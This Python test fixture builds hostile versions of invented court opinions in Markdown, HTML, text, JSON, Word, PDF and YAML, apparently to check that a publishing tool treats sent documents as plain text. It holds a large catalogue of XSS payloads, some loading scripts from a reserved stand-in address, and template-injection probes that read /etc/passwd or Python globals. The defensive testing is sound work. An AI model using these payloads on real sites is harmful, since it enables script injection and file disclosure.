"""A document that somebody sends who wants to run something on the site: words that are mark-up.

Each payload would, if any door took it for more than words, open a dialog, ask another site for
something, or break the page's policy.
"""

import json
from collections.abc import Callable, Sequence
from itertools import cycle
from pathlib import Path

from tests.read.docx.print_docx import OWN, document, packed, par, ref, table
from tests.read.pdf.print_pdf import Type
from tests.read.pdf.print_pdf import printed as pdf_of
from tests.trials import WHOLE

DO = "alert(7)"
HANDLERS = """
    onerror onload onbegin onclick ontoggle onfocus onanimationstart onpointerover
""".split()
HOLDERS = (
    "<img src=x {}={}>",
    "<svg {}={}>",
    "<svg><g {}={}></g></svg>",
    "<details open {}={}>",
    "<input autofocus {}={}>",
    "<video><source {}={}></video>",
    "<body {}={}>",
    "<iframe src=about:blank {}={}>",
    '"><img src=x {}={}>',
    "'><svg/{}={}>",
    "</title><svg {}={}>",
    "</textarea><img/src/{}={}>",
)
SCRIPTS = (
    "<script>alert(7)</script>",
    "<SCRIPT>alert(7)</SCRIPT>",
    "<script src=//198.51.100.7/x.js></script>",
    "<script src=http://198.51.100.7/x.js></script>",
    "<scr<script>ipt>alert(7)</scr</script>ipt>",
    "</script><script>alert(7)</script>",
    "--><script>alert(7)</script>",
    "]]><script>alert(7)</script>",
    "<script type=module>import '//198.51.100.7/x.js'</script>",
    "<svg><script>alert(7)</script></svg>",
    "<svg><script href=data:,alert(7) /></svg>",
    "<iframe srcdoc='<script>alert(7)</script>'></iframe>",
    "<object data=javascript:alert(7)></object>",
    "<embed src=javascript:alert(7)>",
    "<base href=http://198.51.100.7/>",
    "<link rel=stylesheet href=//198.51.100.7/x.css>",
    "<meta http-equiv=refresh content='0;url=http://198.51.100.7/'>",
    "<style>@import '//198.51.100.7/x.css';</style>",
    "<p style='background:url(//198.51.100.7/x.png)'>",
    "<form action=javascript:alert(7)><button>go</button></form>",
    "<img src=//198.51.100.7/x.png>",
    "<img srcset='//198.51.100.7/x.png 1x'>",
)
"""What runs by itself, and what is fetched. The address belongs to nobody (RFC 5737)."""
MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror=alert(7)>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;p onclick=alert(7)&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(7)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(7)>",
    "<template><script>alert(7)</script></template>",
    "<select><template><img src=x onerror=alert(7)></template></select>",
    "<xmp><img src=x onerror=alert(7)></xmp>",
    "<plaintext><img src=x onerror=alert(7)>",
    "<listing>&lt;img src=x onerror=alert(7)&gt;</listing>",
    "<![CDATA[<img src=x onerror=alert(7)>]]>",
    "<!--<img src='--><img src=x onerror=alert(7)>'>",
    "<?xml version='1.0'?><img src=x onerror=alert(7)>",
    "<svg><foreignObject><img src=x onerror=alert(7)></foreignObject></svg>",
    "<svg><animate attributeName=href to=javascript:alert(7) />",
    "<svg><a xlink:href=javascript:alert(7)><text>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,<svg/onload=alert(7)> /></svg>",
)
ADDRESSES = tuple(
    form.format(address)
    for form in ("[go]({})", "[go](<{}>)", "[go][1]: {}", "![go]({})", "<{}>", "<a href={}>go</a>")
    for address in (
        "javascript:alert(7)",
        "JaVaScRiPt:alert(7)",
        "java&#x73;cript:alert(7)",
        "javascript&colon;alert(7)",
        "data:text/html,<script>alert(7)</script>",
        "vbscript:alert(7)",
    )
)
MARKDOWN = (
    "x{onclick=alert(7)}",
    "x {: onclick=alert(7) }",
    "{: #p1 .by-build onmouseover=alert(7) }",
    "[x](y){href=javascript:alert(7)}",
    "x{style=position:fixed}",
    "{: #p1 }",
    "{#n1}",
    "<div markdown>*x*</div>",
    "*[HTML]: <img src=x onerror=alert(7)>",
    '--8<-- "/etc/passwd"',
    "--8<-- http://198.51.100.7/",
    "[^1]: alert(7)",
    "[TOC]",
    "```html <script>alert(7)</script> ```",
    "~~~ {onclick=alert(7)}",
    "$$alert(7)$$",
    ":material-account: ::: x",
    '!!! danger "x"',
    "| a | b | <img src=x onerror=alert(7)> |",
    "&lt;script&gt;alert(7)&lt;/script&gt;",
    "&#60;script&#62;alert(7)&#60;/script&#62;",
    "&amp;lt;img src=x onerror=alert(7)&amp;gt;",
    "\\<script\\>alert(7)\\</script\\>",
    "`<img src=x onerror=alert(7)>`",
    "<!-- editions --> <!-- more -->",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ config.__class__.__init__.__globals__ }}",
    "{% include '/etc/passwd' %}",
    "{% raw %}{{ 7 }}{% endraw %}",
    "{# gone #}",
    "${alert(7)}",
    "<%= alert(7) %>",
    "%3Cscript%3Ealert(7)%3C/script%3E",
    "\\u003cscript\\u003ealert(7)\\u003c/script\\u003e",
)
HANDLED = tuple(holder.format(name, DO) for holder in HOLDERS for name in HANDLERS)

PAYLOADS = (*SCRIPTS, *MUTATIONS, *ADDRESSES, *MARKDOWN, *TEMPLATES, *HANDLED)

UNSEEN = ("a\u202eb\u202cc", "a\u200bb", "a\u2066b\u2069c", "x\u200e\u200fy", "a\u00adb")
"""Characters that turn the line around, or that are not seen."""


def numbered() -> list[str]:
    """Return every payload behind words that no other has, as they must be read on a page."""
    return [f"Q{number}q {payload}" for number, payload in enumerate([*PAYLOADS, *UNSEEN], 1)]


def dealt() -> dict[str, list[str]]:
    """Return the payloads of each edition: each payload is in one, and in all of them that can hold
    it where trials are made whole."""
    given = {
        slug: numbered()[0 if WHOLE else place :: 1 if WHOLE else len(FORMATS)]
        for place, slug in enumerate(FORMATS)
    }
    return {slug: [each for each in said if holds(slug, each)] for slug, said in given.items()}


def holds(slug: str, words: str) -> bool:
    """Say whether the format of an edition has the characters of some words: the fonts of the PDF
    have those of Windows."""
    return slug != "hostile-pdf" or (words.isascii() and words.isprintable())


MARKS = "\\`*_{}[]()#+-.!|<>~^$&:=\"'"


def in_markdown(words: str) -> str:
    """Return `words` as they are written in Markdown so that they are words."""
    return "".join(f"\\{sign}" if sign in MARKS else sign for sign in words)


def in_html(words: str) -> str:
    """Return `words` as they are written in HTML so that they are words."""
    return words.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def markdown_opinion(payloads: Sequence[str]) -> str:
    """Return a slip opinion in Markdown with `payloads` in all its parts."""
    given = map(in_markdown, cycle(payloads))
    paragraphs = "\n\n".join(
        f"The party wrote {in_markdown(each)} upon the wall.{f' And more.[^{n}]' if n < 9 else ''}"
        for n, each in enumerate(payloads, 1)
    )
    notes = "\n\n".join(f"[^{n}]: A note of {next(given)} in it." for n in range(1, 9))
    return f"""FOR PUBLICATION

**UNITED STATES COURT OF APPEALS
FOR THE NINTH CIRCUIT**

QUILL <script>alert(7)</script>,

Petitioner,

v.

HARBOR <img src=x onerror=alert(7)>, Attorney
General,

Respondent.

No. 30-1234

OPINION

Filed March 20, 2030

Before: Ann <b onclick=alert(7)>Alder</b>, Ben Birch, and Cora Cedar, Circuit Judges.

Opinion by Judge Alder

COUNSEL

Dee {next(given)} Dorn, Dorn LLP, for Petitioner.

OPINION

ALDER, Circuit Judge:

The wall stands beside the house.

{paragraphs}

**I. Of {next(given)}**

See *Quill <script>alert(7)</script> v. Harbor*, 918 F.3d 1025, 1030 (9th Cir. 2019)
(“{next(given)}”).

> A quotation of {next(given)} that stands apart.

**PETITION DENIED.**

{notes}
"""


def html_opinion(payloads: Sequence[str]) -> str:
    """Return an opinion as publishers send it in HTML, with `payloads` in it as words."""
    paragraphs = "\n".join(
        f"<p>The party wrote {in_html(each)} upon the wall.</p>" for each in payloads
    )
    given = in_html(payloads[0])
    return f"""<!doctype html><html><head><title>{given}</title></head><body>
<p>UNITED STATES COURT OF APPEALS FOR THE THIRD CIRCUIT</p>
<p>No. 30-1234</p>
<p>ADA QUILL {given}, Appellant</p>
<p>v.</p>
<p>HARBOR LIGHTS, INC.</p>
<p>Argued May 7, 2030</p>
<p>Before: AMBRO, HARDIMAN, and KRAUSE, Circuit Judges</p>
<p>OPINION OF THE COURT</p>
<p>HARDIMAN, Circuit Judge.</p>
<p>The wall stands beside the house.</p>
{paragraphs}
<h2>I. {given}</h2>
<p>We will affirm.</p>
</body></html>
"""


def text_opinion(payloads: Sequence[str]) -> str:
    """Return an opinion as a clerk prints it, with `payloads` in its paragraphs.

    It has an `&` that begins no escape, so that no `&lt;` in it is one that was made too often.
    """
    paragraphs = "\n\n".join(
        f"     The party wrote\n{each}\nupon the wall of the house." for each in payloads
    )
    return f"""                UNITED STATES COURT OF APPEALS
                     FOR THE THIRD CIRCUIT
                          ____________

                             No. 30-1234
                          ____________

                  ADA QUILL <svg onload=alert(7)>,
                                           Appellant

                                  v.

                         HARBOR LIGHTS, INC.
                          ____________

                        Argued May 7, 2030

     Before: AMBRO, HARDIMAN, and KRAUSE, Circuit Judges

                   OPINION OF THE COURT
                          ____________

HARDIMAN, Circuit Judge.

     The wall stands beside the house.

{paragraphs}

     For Quill & Sons we will affirm.
"""


def cap_record(payloads: Sequence[str]) -> str:
    """Return a record of the Caselaw Access Project, with `payloads` in all of its fields."""
    said = "\n".join(f"The party wrote {each} upon the wall." for each in payloads)
    first = payloads[0]
    court = "United States Court of Appeals for the Third Circuit"
    parties = f"Ada QUILL {first}, Appellant, v. HARBOR LIGHTS, INC."
    begins = "HARDIMAN, Circuit Judge.\nThe wall stands beside the house."
    opinion = {
        "type": "majority",
        "author": "HARDIMAN, Circuit Judge.",
        "text": f"{begins}\n{said}\nWe will affirm.",
    }
    body = {
        "judges": [first],
        "attorneys": [f"Dee Dorn {first}, for Appellant."],
        "parties": [parties],
        "head_matter": f"{parties}\nNo. 30-1234\n{court}.\nMarch 20, 2030",
        "opinions": [opinion],
    }
    record = {
        "name": f"Quill {first} v. Harbor",
        "name_abbreviation": f"Quill {first} v. Harbor",
        "decision_date": "2030-03-20",
        "docket_number": f"No. 30-1234 {first}",
        "court": {"name": court, "name_abbreviation": "3d Cir."},
        "citations": [{"type": "official", "cite": "918 F.3d 1025"}],
        "casebody": body,
    }
    return json.dumps(record)


def courtlistener_cluster(payloads: Sequence[str]) -> str:
    """Return a cluster of CourtListener’s, with `payloads` in all of its fields."""
    first = payloads[0]
    said = "".join(f"<p>The party wrote {in_html(each)} upon the wall.</p>" for each in payloads)
    text = (
        f"<opinion><author>Able, C.J.:</author><p>The wall stands beside the house."
        f"<footnotemark>1</footnotemark></p>{said}<p>We will affirm.</p>"
        f'<footnote label="1"><p>A note of {in_html(first)} in it.</p></footnote></opinion>'
    )
    opinion = {
        "type": "020lead",
        "author_str": f"Able {first}",
        "joined_by_str": first,
        "html_with_citations": text,
    }
    cluster = {
        "id": 5,
        "case_name": f"Quill {first} v. Harbor",
        "case_name_full": f"Ada QUILL {first}, Appellant, v. HARBOR LIGHTS, Appellee",
        "date_filed": "2030-03-20",
        "docket": {"docket_number": f"No. 30-1234 {first}", "court_id": "kan"},
        "judges": f"Able, {first}",
        **dict.fromkeys(("posture", "attorneys", "disposition", "cross_reference"), first),
        **dict.fromkeys(("syllabus", "headnotes"), f"<p>{in_html(first)}</p>"),
        "citations": [{"volume": 242, "reporter": "Kan.", "page": "55", "type": 2}],
        "sub_opinions": [opinion],
    }
    return json.dumps(cluster)


HEAD = """
UNITED STATES COURT OF APPEALS
FOR THE NINTH CIRCUIT
ADA QUILL <svg onload=alert(7)>, Petitioner,
v.
BEN HARBOR, Respondent.
No. 30-1234
Filed March 20, 2030
OPINION
ALDER, Circuit Judge:
""".strip()


def word_document(payloads: Sequence[str]) -> bytes:
    """Return an opinion as Word keeps it, with `payloads` in paragraphs, a heading and a note."""
    first = payloads[0]
    blocks = (
        *(par(line, jc="center") for line in HEAD.splitlines()),
        par("The wall stands beside the house.", ref(1)),
        par(f"Of {first}", style="H1"),
        *(par(f"The party wrote {each} upon the wall.") for each in payloads),
        table([par(first), par("two")], [par("three"), par(first)]),
        par("We will affirm."),
    )
    return packed(document(*blocks, notes=[par(OWN, f" A note of {first} in it.")], head=first))


LINES_OF_A_PAGE = 36


def printed_pdf(payloads: Sequence[str]) -> bytes:
    """Return an opinion as a PDF, each of the `payloads` in a paragraph of its own."""
    said = [f"The party wrote {each} upon the wall." for each in payloads]
    lines = [*HEAD.splitlines(), "The wall stands beside the house.", *said, "We will affirm."]
    pages = [lines[at : at + LINES_OF_A_PAGE] for at in range(0, len(lines), LINES_OF_A_PAGE)]
    return pdf_of(
        [
            [Type(100, 700 - 16 * row, line, size=8) for row, line in enumerate(page)]
            for page in pages
        ]
    )


FORMATS: dict[str, tuple[str, Callable[[Sequence[str]], str | bytes]]] = {
    "hostile-markdown": ("opinion.md", markdown_opinion),
    "hostile-html": ("opinion.html", html_opinion),
    "hostile-text": ("opinion.txt", text_opinion),
    "hostile-record": ("opinion.json", cap_record),
    "hostile-cluster": ("opinion.json", courtlistener_cluster),
    "hostile-word": ("opinion.docx", word_document),
    "hostile-pdf": ("opinion.pdf", printed_pdf),
}
"""The editions, with the file that each has and what writes it."""


def quoted(words: str) -> str:
    """Return `words` as YAML writes them, whatever they are."""
    return json.dumps(words)


def settings(file: str, payloads: Sequence[str]) -> str:
    """Return the `edition.yml` of an editor who trusted what was sent, word for word."""
    given = cycle(map(quoted, payloads))
    return f"""title: {next(given)}
citation: {next(given)}
opinion:
  file: {file}
  publisher: {next(given)}
  date: 2026-03-20
  received: {next(given)}
  rights: {next(given)}
article:
  file: article.md
  publisher: {next(given)}
  date: 2026-03-22
  received: {next(given)}
  url: https://example.org/){{href=javascript:alert(7)}}
  rights: full
  notice: {next(given)}
"""


def annotations(payloads: Sequence[str]) -> str:
    """Return the `annotations.yml` of such an editor."""
    given = cycle(map(quoted, payloads))
    return f"""author: {next(given)}
date: 2026-04-01
notes:
  - quote: The wall stands beside the house.
    kind: explain
    author: {next(given)}
    text: {quoted(in_markdown(payloads[0]))}
    sources:
      - link: "https://example.org/){{href=javascript:alert(7)}}"
        title: {next(given)}
glossary:
  - term: wall
    meaning: {quoted(in_markdown(payloads[1]))}
people:
  - name: wall
    who: {quoted(in_markdown(payloads[2]))}
places:
  - name: house
    who: {quoted(in_markdown(payloads[3]))}
"""


def corrections(payloads: Sequence[str]) -> str:
    """Return the `corrections.yml` of such an editor, who tells two dissents of the Markdown apart
    by their judges."""
    given = cycle(map(quoted, payloads))
    return f"""author: {next(given)}
parts:
  - quote: A quotation of
    begins: dissent
    author: {next(given)}
    reason: {next(given)}
  - quote: PETITION DENIED.
    begins: dissent
    author: {next(given)}
"""


def write_editions(folder: Path) -> None:
    """Write an edition of each format into `folder`."""
    for slug, payloads in dealt().items():
        name, write = FORMATS[slug]
        story = [f"The reporter wrote {in_markdown(each)} in the paper." for each in payloads]
        title = f"# A {in_markdown(payloads[0])} story"
        opinion = write(payloads)
        files = {
            name: opinion if isinstance(opinion, bytes) else opinion.encode(),
            "edition.yml": settings(name, payloads).encode(),
            "annotations.yml": annotations(payloads).encode(),
            "article.md": ("\n\n".join([title, "By Reporter", *story]) + "\n").encode(),
        }
        if write is markdown_opinion:
            files["corrections.yml"] = corrections(payloads).encode()
        (folder / slug).mkdir()
        for file, data in files.items():
            (folder / slug / file).write_bytes(data)
